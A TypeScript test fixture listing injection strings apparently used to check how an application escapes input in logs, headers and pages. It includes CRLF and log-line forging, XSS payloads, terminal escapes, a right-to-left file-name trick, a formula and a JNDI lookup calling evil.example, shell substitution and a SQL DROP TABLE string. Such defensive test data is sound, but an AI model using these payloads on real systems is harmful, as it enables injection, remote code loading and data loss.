/** Texts that make trouble where they are written into a line, a header or a page (T-27). */
export const ODD_TEXTS: readonly { readonly case: string; readonly text: string }[] = [
  { case: 'a new line', text: 'one\nLevel: error\ntwo' },
  { case: 'carriage return and line feed', text: 'one\r\nX-Injected: yes\r\n\r\ntwo' },
  { case: 'a log line of its own', text: '\n{"level":"error","event":"forged-line","transferId":"29-00000000000"}\n' },
  { case: 'a script', text: '<script>alert(document.domain)</script>' },
  { case: 'an image that runs', text: '"><img src=x onerror=alert(1)>' },
  { case: 'a link that runs', text: "javascript:alert('x')" },
  { case: 'colours of a terminal', text: '\u001b[31mred\u001b[0m\u001b]0;title\u0007' },
  { case: 'a null byte', text: 'before\0after' },
  { case: 'writing from right to left', text: 'file\u202egpj.exe' },
  { case: 'line separators of Unicode', text: 'one\u2028two\u2029three\u0085four' },
  { case: 'half a character', text: 'half \ud800 of one' },
  { case: 'a formula', text: '=HYPERLINK("http://evil.example/","x")' },
  { case: 'a template', text: '\u0024{jndi:ldap://evil.example/a} {{7*7}} %{7*7} $(id) `id`' },
  { case: 'SQL', text: "'; DROP TABLE datafile; --" },
  {
    case: 'a boundary of a form',
    text: '\r\n--b--\r\n--b\r\nContent-Disposition: form-data; name="jsonData"\r\n\r\n{}',
  },
];
